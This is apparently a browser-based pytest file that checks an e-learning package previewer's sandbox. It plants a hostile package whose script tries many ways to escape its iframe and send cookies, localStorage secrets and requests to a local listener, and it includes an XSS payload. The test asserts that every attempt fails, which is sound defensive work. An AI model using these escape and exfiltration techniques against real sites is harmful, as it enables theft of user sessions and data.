"""A package that tries everything to get out of its frame, in a real browser; nothing of it may arrive anywhere."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from connector.sandbox.manifests import Part, manifest12
from connector.web.preview import Preview, PreviewServer

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser
Opened = Callable[..., Preview]

_SCRIPT = """
const out = %s, tried = {};
async function attempt(name, way) {
  const late = new Promise((_, no) => setTimeout(() => no({ name: "no answer" }), 2000));
  try {
    tried[name] = String(await Promise.race([way(), late]));
  } catch (error) { tried[name] = "failed: " + error.name; }
}
function arrives(element, property) {
  return new Promise((yes, no) => {
    element.onload = () => yes("loaded");
    element.onerror = () => no(new Error("refused"));
    element[property] = out + "/" + element.tagName;
    document.head.append(element);
  });
}
function socketOpens() {
  return new Promise((yes, no) => {
    const made = new WebSocket(out.replace("http", "ws"));
    made.onopen = () => yes("open");
    made.onerror = () => no(new Error("refused"));
  });
}
(async () => {
  await attempt("top document", () => top.document.title);
  await attempt("page document", () => parent.parent.document.title);
  await attempt("page storage", () => parent.parent.localStorage.getItem("secret"));
  await attempt("top location", () => { top.location.href = out + "/top"; return "went"; });
  await attempt("top location by the parent", () => parent.eval("top.location.replace('" + out + "/top')"));
  await attempt("cookies", () => document.cookie + parent.document.cookie);
  await attempt("own storage", () => JSON.stringify(localStorage));
  await attempt("fetch", () => fetch(out + "/fetch"));
  await attempt("fetch without CORS", () => fetch(out + "/fetch", { mode: "no-cors", credentials: "include" }));
  await attempt("fetch of the page", () => fetch(document.referrer || %s, { credentials: "include" }));
  await attempt("beacon", () => { navigator.sendBeacon(out + "/beacon", "x"); return "sent?"; });
  await attempt("websocket", socketOpens);
  await attempt("events", () => new Promise((yes, no) => {
    const made = new EventSource(out + "/events");
    made.onopen = yes;
    made.onerror = () => no(new Error("refused"));
  }));
  await attempt("image", () => arrives(new Image(), "src"));
  await attempt("script", () => arrives(document.createElement("script"), "src"));
  const sheet = document.createElement("link"); sheet.rel = "stylesheet";
  await attempt("stylesheet", () => arrives(sheet, "href"));
  await attempt("popup", () => window.open(out + "/popup"));
  await attempt("service worker", () => navigator.serviceWorker.register("worker.js"));
  await attempt("service worker of the player", () =>
    parent.navigator.serviceWorker.register("../files/worker.js", { scope: "../" }));
  await attempt("worker", () => new Promise((yes, no) => {
    const made = new Worker("worker.js"); made.onmessage = (event) => yes(event.data); made.onerror = no; }));
  parent.API.LMSInitialize("");
  parent.API.LMSSetValue("cmi.suspend_data", JSON.stringify(tried).replace(/"/g, "'"));
  await new Promise((soon) => setTimeout(soon, 500));
  for (const [tag, attributes] of [["a", { href: out + "/download", download: "x" }],
      ["a", { href: out + "/blank", target: "_blank" }], ["a", { href: out + "/top", target: "_top" }]]) {
    const link = Object.assign(document.createElement(tag), attributes);
    document.body.append(link);
    link.click();
  }
  for (const rel of ["preconnect", "prefetch", "dns-prefetch", "prerender"]) {
    document.head.append(Object.assign(document.createElement("link"), { rel, href: out + "/" + rel }));
  }
  for (const html of [`<iframe src="${out}/frame"></iframe>`, `<object data="${out}/object"></object>`,
      `<embed src="${out}/embed">`, `<video src="${out}/video" autoplay></video>`,
      `<iframe srcdoc="<img src='${out}/srcdoc'>"></iframe>`,
      `<iframe src="data:text/html,<img src='${out}/data'>"></iframe>`,
      `<div style="background:url(${out}/background)">x</div>`,
      `<iframe sandbox="allow-scripts allow-top-navigation"
        srcdoc="<script>top.location='${out}/escaped'<\\/script>"></iframe>`,
      `<form id="out" method="post" action="${out}/form"><input name="a" value="b"></form>`]) {
    document.body.insertAdjacentHTML("beforeend", html);
  }
  document.getElementById("out").submit();
  parent.postMessage({ hoclieu: "go" }, "*");
  top.postMessage({ hoclieu: "calls", calls: [{ at: 1, name: "<img src=x onerror=alert(1)>", args: [], result: "true",
    error: "0" }] }, "*");
  setTimeout(() => { location.href = out + "/navigation"; }, 300);
  parent.eval("setTimeout(() => { location.href = '" + out + "/player'; }, 600)");
})();
"""
_WORKER = "self.onmessage = () => 0; fetch('%s/worker').then(() => postMessage('out'), () => postMessage('held'));"


@dataclass
class Listener:
    """Another host's port: everything that reaches it is kept, a bare connection too."""

    heard: list[bytes] = field(default_factory=list)
    socket: socket.socket = field(default_factory=lambda: socket.create_server(("127.0.0.1", 0)))

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.socket.getsockname()[1]}"

    def listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self.socket.accept()
                with connection:
                    connection.settimeout(2)
                    try:
                        self.heard.append(connection.recv(4096))
                    except TimeoutError:
                        self.heard.append(b"")


@pytest.fixture
def outside() -> Iterator[Listener]:
    listener = Listener()
    thread = threading.Thread(target=listener.listen, daemon=True)
    thread.start()
    yield listener
    listener.socket.shutdown(socket.SHUT_RDWR)
    listener.socket.close()
    thread.join(5)


def hostile(outside: Listener, page_url: str) -> dict[str, str | bytes]:
    script = _SCRIPT % (json.dumps(outside.origin), json.dumps(page_url))
    page = f'<!DOCTYPE html><meta charset="utf-8"><title>x</title><body><script>{script}</script>'
    manifest = manifest12("hostile", "Bài xấu", [Part("Bài xấu", "index.html", ("worker.js",))])
    return {"imsmanifest.xml": manifest, "index.html": page, "worker.js": _WORKER % outside.origin}


def test_nothing_gets_out(page: Page, server: PreviewServer, opened: Opened, outside: Listener) -> None:
    page_origin = server.addresses.page
    preview = opened(server, hostile(outside, page_origin))
    page.context.add_cookies([{"name": "session", "value": "cua-nguoi-tham-dinh", "url": page_origin}])
    page.goto(server.url(preview) + "?lang=en")
    page.evaluate("localStorage.setItem('secret', 'bi-mat')")
    at, title = page.url, page.title()
    sent: list[str] = []
    page.context.on("request", lambda request: sent.append(f"{request.url} {request.headers.get('cookie', '')}"))
    page.get_by_role("button", name="Start").click()
    page.locator("#calls tr", has_text="suspend_data").wait_for()
    page.wait_for_timeout(2500)  # the last ways out are tried after a while

    told = page.locator("#calls tr", has_text="suspend_data").first.inner_text()
    assert "bi-mat" not in told and "cua-nguoi-tham-dinh" not in told
    assert outside.heard == []
    assert (page.url.partition("#")[0], page.title()) == (at, title)
    assert len(page.context.pages) == 1
    to_content = [line for line in sent if preview.label in line]
    assert to_content and not any("cua-nguoi-tham-dinh" in line for line in to_content)
    assert page.locator("#calls img").count() == 0
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


def test_each_way_out_fails_by_itself(page: Page, server: PreviewServer, opened: Opened, outside: Listener) -> None:
    page.goto(server.url(opened(server, hostile(outside, server.addresses.page))) + "?lang=en")
    page.get_by_role("button", name="Start").click()
    page.locator("#calls tr", has_text="LMSInitialize").wait_for()
    frame = next(frame for frame in page.frames if "/play/" in frame.url)
    tried = json.loads(frame.evaluate("window.API.LMSGetValue('cmi.suspend_data')").replace("'", '"'))
    assert tried.pop("popup") == "null"
    assert tried.pop("cookies") == "" and tried.pop("own storage") == "{}"
    assert tried.pop("beacon") == "sent?", "browsers do not say; the listener of the other test does"
    assert tried.pop("worker") == "held", "an honest lesson's worker runs, without a way out"
    assert [name for name, outcome in tried.items() if not outcome.startswith("failed: ")] == []
    assert len(tried) > 12
    assert any(notice.kind == "blocked" for notice in server.previews.by_id(page.url.split("/")[4]).notices.since(0))  # type: ignore[union-attr]
